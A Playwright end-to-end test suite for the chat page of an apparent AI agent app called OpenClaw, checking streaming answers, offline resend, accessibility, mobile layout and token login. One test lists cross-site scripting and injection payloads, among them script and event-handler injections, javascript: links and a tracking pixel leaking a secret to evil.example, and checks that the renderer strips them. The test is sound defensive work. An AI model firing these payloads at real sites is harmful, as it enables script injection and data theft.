import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { bootPage } from './boot-page.ts';
import { connected, describePage, growing, log, open, say, shown } from './browsing.ts';
import { contrastOf, styleOf } from './looks.ts';

describePage('the chat page', (visit) => {
  it('welcomes a newcomer, sends what is written, and shows the answer growing and whole', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    await page.getByRole('heading', { name: 'Say hello to OpenClaw' }).waitFor();
    expect(await page.title()).toBe('OpenClaw');
    await say(page, 'What is up?');
    const turn = await house.turnFor('What is up?');
    await page.getByText('Agent is working…').waitFor();
    turn.stream('All **is');
    await growing(page, 'All **is');
    turn.stream('All **is well** in');
    await growing(page, 'All is well in');
    await turn.answer('All **is well** in the world.');
    await shown(page, 'All is well in the world.');
    expect(await page.locator('.growing').count()).toBe(0);
    expect(await page.locator('.markdown strong').textContent()).toBe('is well');
    await page.getByText('Agent is working…').waitFor({ state: 'detached' });
    expect(await page.getByRole('heading', { name: 'Say hello' }).count()).toBe(0);
    expect(house.stored()).toEqual(['What is up?']);
  });

  it('shows code with a button that copies it', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await say(page, 'code');
    const turn = await house.turnFor('code');
    turn.stream('```sh\necho "half');
    await growing(page, 'echo "half');
    await turn.answer('```sh\necho "<b>"\n```');
    await log(page).getByRole('button', { name: 'Copy' }).click();
    await log(page).getByRole('button', { name: 'Copied' }).waitFor();
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('echo "<b>"');
  });

  it('lets nothing run, load or lead astray that an agent or a person writes', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    const attacks = [
      '<script>window.pwned = 1</script>',
      '<img src=x onerror="window.pwned = 2">',
      '<svg onload="window.pwned = 3"><a xlink:href="javascript:window.pwned = 4">x</a></svg>',
      '[click](javascript:window.pwned=5) [click](JaVaScRiPt&colon;window.pwned=6) [x](data:text/html,<script>)',
      '[file](file:///etc/passwd) [path](/etc/passwd) [unc](\\\\host\\share) [rel](//evil.example/x)',
      '![secret](https://evil.example/pixel.png?secret "t" )',
      '<iframe srcdoc="<script>parent.pwned = 7</script>"></iframe><form action="https://evil.example"><input></form>',
      '<style>* { display: none }</style><p style="position:fixed">over all</p><base href="https://evil.example/">',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=8&gt;">',
      '```x" onmouseover="window.pwned=9\ncode\n```',
      '<a href="https://evil.example" target="_self" onclick="window.pwned=10" id="app">link</a>',
    ];
    for (const attack of attacks) {
      await say(page, attack);
      const turn = await house.turnFor(attack);
      turn.stream(attack);
      await turn.answer(`${attack}\n\nend of ${attacks.indexOf(attack)}`);
      await shown(page, `end of ${attacks.indexOf(attack)}`);
    }
    const hrefs = await page.locator('.markdown a[href]').evaluateAll((links) => links.map(String));
    expect(hrefs).toEqual(['https://evil.example/pixel.png?secret']);
    const link = page.locator('.markdown a[href]');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.textContent()).toBe('secret');
    const alien =
      '.markdown :is(script, img, svg, iframe, form, input, style, base, math, [style], [id], [onclick])';
    expect(await page.locator(alien).count()).toBe(0);
    for (const clickable of await page.locator('.markdown a:not([href])').all()) await clickable.click();
    expect(await page.evaluate('window.pwned')).toBeUndefined();
    expect(await log(page).getByText('<script>window.pwned = 1</script>').count()).toBe(2);
  });

  it('shows after a reload what was said before', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    await say(page, 'remember me');
    await (await house.turnFor('remember me')).answer('I do.');
    await shown(page, 'I do.');
    await page.reload();
    await shown(page, 'remember me');
    await shown(page, 'I do.');
    const turn = await house.turnFor('remember me');
    turn.stream('and more');
    await growing(page, 'and more');
    await page.reload();
    await growing(page, 'and more');
  });

  it('keeps what was not confirmed through a lost connection, and sends it once', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    await connected(page);
    house.network.swallowAnswers();
    await say(page, 'did you get that?');
    await house.turnFor('did you get that?');
    await log(page).getByText('Sending…').waitFor();

    house.network.down();
    await page.getByText('No connection – trying again').waitFor();
    await say(page, 'said in the dark');
    const unsent = log(page).getByText('Not sent yet – will be sent when the connection is back');
    await unsent.nth(1).waitFor();

    house.network.up();
    await connected(page);
    await house.turnFor('said in the dark');
    await unsent.waitFor({ state: 'detached' });
    await log(page).getByText('Sending…').waitFor({ state: 'detached' });
    expect(await log(page).locator('.bubble').allInnerTexts()).toEqual([
      'did you get that?',
      'said in the dark',
    ]);
    expect(house.stored()).toEqual(['did you get that?', 'said in the dark']);
  });

  it('sends after its return what was written before it was closed', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    await connected(page);
    house.network.down();
    await page.getByText('No connection – trying again').waitFor();
    await say(page, 'do not forget');
    const context = page.context();
    await page.close();
    house.network.up();
    await shown(await open(house, context), 'do not forget');
    await house.turnFor('do not forget');
  });

  it('tries again when the gateway cannot store a message', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    house.breakStore(true);
    await say(page, 'patience');
    await log(page).getByText('Not sent yet – trying again.').waitFor();
    house.breakStore(false);
    await house.turnFor('patience');
    await log(page).getByText('Not sent yet').waitFor({ state: 'detached' });
  });

  it('says the same in two tabs', async () => {
    await using house = await bootPage();
    const one = await visit(house);
    const two = await open(house, one.context());
    await Promise.all([connected(one), connected(two)]);
    await say(one, 'from one');
    await shown(two, 'from one');
    await say(two, 'from two');
    await shown(one, 'from two');
    const turn = await house.turnFor('from one');
    turn.stream('half');
    await Promise.all([growing(one, 'half'), growing(two, 'half')]);
    await turn.answer('whole');
    await Promise.all([shown(one, 'whole'), shown(two, 'whole')]);
    const texts = (page: Page) => log(page).locator(':is(.bubble, .markdown)').allInnerTexts();
    expect(await texts(two)).toEqual(await texts(one));
    expect(await texts(one)).toEqual(['from one', 'from two', 'whole']);
  });

  it.each(['button', 'Escape'])('stops the agent by %s', async (way) => {
    await using house = await bootPage();
    const page = await visit(house);
    await say(page, 'count to a million');
    const turn = await house.turnFor('count to a million');
    turn.stream('1 2 3');
    await growing(page, '1 2 3');
    if (way === 'button') await page.getByRole('button', { name: 'Stop' }).click();
    else await page.keyboard.press('Escape');
    await turn.stopped();
    await page.getByText('Agent is working…').waitFor({ state: 'detached' });
    expect(await page.getByRole('button', { name: 'Stop' }).count()).toBe(0);
  });

  it('fits a phone, whatever is said', async () => {
    await using house = await bootPage();
    const page = await visit(house, {
      viewport: { width: 360, height: 640 },
      isMobile: true,
      hasTouch: true,
    });
    const wide = `${'wide'.repeat(60)} <${'x'.repeat(90)}>`;
    await say(page, wide);
    const table = `|${'column|'.repeat(12)}\n|${'-|'.repeat(12)}\n|${'cell|'.repeat(12)}`;
    const turn = await house.turnFor(wide);
    await turn.answer(
      `${wide}\n\n\`\`\`\n${wide}\n\`\`\`\n\n${table}\n\nhttps://example.org/${'long/'.repeat(40)}\n\nend`,
    );
    await shown(page, 'end');
    const outside = await page
      .locator('.app, .app > *, .scroller, .column, .line, .bubble, .code, .wide, .composer, .send')
      .evaluateAll((elements) =>
        elements
          .filter(
            (element) => element.getBoundingClientRect().right > element.ownerDocument.defaultView.innerWidth,
          )
          .map((element) => element.className),
      );
    expect(outside).toEqual([]);
    expect(
      await page.locator('.scroller').evaluate((scroller) => scroller.scrollWidth - scroller.clientWidth),
    ).toBe(0);
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360);
  });

  it.each(['light', 'dark'] as const)('can be read in %s colours', async (colorScheme) => {
    await using house = await bootPage();
    const page = await visit(house, { colorScheme });
    await say(page, 'hello');
    await (await house.turnFor('hello')).answer('A [link](https://example.org) and `code`.\n\n```js\nx\n```');
    await log(page).locator('.code').waitFor();
    await log(page).getByText('Sending…').waitFor({ state: 'detached' });
    const places = [
      '.bubble',
      '.markdown p',
      '.markdown a',
      '.code pre',
      '.code-head span',
      '.meta time',
      '.status',
    ];
    for (const place of places) {
      expect(await contrastOf(page.locator(place).last()), place).toBeGreaterThan(4.5);
    }
  });

  it('needs no mouse', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    await connected(page);
    expect(await page.evaluate('document.activeElement.tagName')).toBe('TEXTAREA');
    await page.keyboard.type('first line');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('second line');
    await page.keyboard.press('Enter');
    const turn = await house.turnFor('first line\nsecond line');
    expect(await page.getByRole('textbox').inputValue()).toBe('');
    await turn.answer('```\ncode\n```');
    await log(page).getByRole('button', { name: 'Copy' }).waitFor();
    const reached: string[] = [];
    for (let n = 0; n < 5; n += 1) {
      await page.keyboard.press('Shift+Tab');
      const focused = page.locator(':focus');
      reached.push((await focused.getAttribute('aria-label')) ?? (await focused.textContent()) ?? '');
      expect(await styleOf(focused, 'outlineStyle')).toBe('solid');
      if (reached.at(-1) === 'Messages') break;
    }
    expect(reached).toEqual(['Attach files', 'Copy', 'Messages']);
  });

  it('tells a screen reader what everything is', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    await say(page, 'hello');
    const turn = await house.turnFor('hello');
    turn.stream('growing');
    await growing(page, 'growing');
    expect(await page.locator('.app').ariaSnapshot()).toMatch(
      new RegExp(
        [
          'banner:',
          'heading "OpenClaw" \\[level=1\\]',
          'status: Connected',
          'main "Messages":',
          'log "Conversation":',
          'article:',
          'heading "You" \\[level=2\\]',
          'paragraph: growing',
          'contentinfo:',
          'status: Agent is working…',
          'button "Stop Esc"',
          'textbox "Message"',
          'button "Send"',
        ].join('[^]*'),
      ),
    );
    // Only what is complete is announced.
    expect(await log(page).getAttribute('aria-live')).toBe('polite');
    expect(await log(page).locator('.growing').count()).toBe(0);
    await turn.answer('grown');
    await shown(page, 'grown');
  });

  it('leaves alone who reads further up, and leads back to the end', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    await say(page, 'long');
    await (await house.turnFor('long')).answer(`${'line\n\n'.repeat(100)}the end`);
    await shown(page, 'the end');
    const scroller = page.locator('.scroller');
    const fromEnd = () =>
      scroller.evaluate(
        ({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight,
      );
    expect(await fromEnd()).toBeLessThan(2);
    await scroller.evaluate((element) => element.scrollTo(0, 100));
    const jump = page.getByRole('button', { name: 'Jump to latest' });
    await jump.waitFor();
    const turn = await house.turnFor('long');
    turn.stream('news');
    await growing(page, 'news');
    expect(await scroller.evaluate((element) => element.scrollTop)).toBe(100);
    await jump.click();
    await jump.waitFor({ state: 'detached' });
    expect(await fromEnd()).toBeLessThan(2);
    await turn.answer(`${'more\n\n'.repeat(50)}the very end`);
    await shown(page, 'the very end');
    expect(await fromEnd()).toBeLessThan(2);
  });

  it('says that a text is too long before it is sent', async () => {
    await using house = await bootPage();
    const page = await visit(house);
    await page.getByRole('textbox', { name: 'Message' }).fill('x'.repeat(32_001));
    await page.keyboard.press('Enter');
    await page.getByText('Too long: 32,001 of 32,000 characters.').waitFor();
    await say(page, 'x'.repeat(32_000));
    await house.turnFor('x'.repeat(32_000));
    expect(house.stored()).toHaveLength(1);
  });

  it('asks for the token where there is one', async () => {
    const token = 'test-token-0123456789';
    await using house = await bootPage({ token });
    const page = await visit(house);
    await page.getByLabel('Token').fill('not the token at all');
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByText('That is not the token.').waitFor();
    await page.getByLabel('Token').fill(token);
    await page.keyboard.press('Enter');
    await connected(page);
    await say(page, 'let me in');
    await house.turnFor('let me in');
    expect(page.url()).toBe(house.url);
  });
});
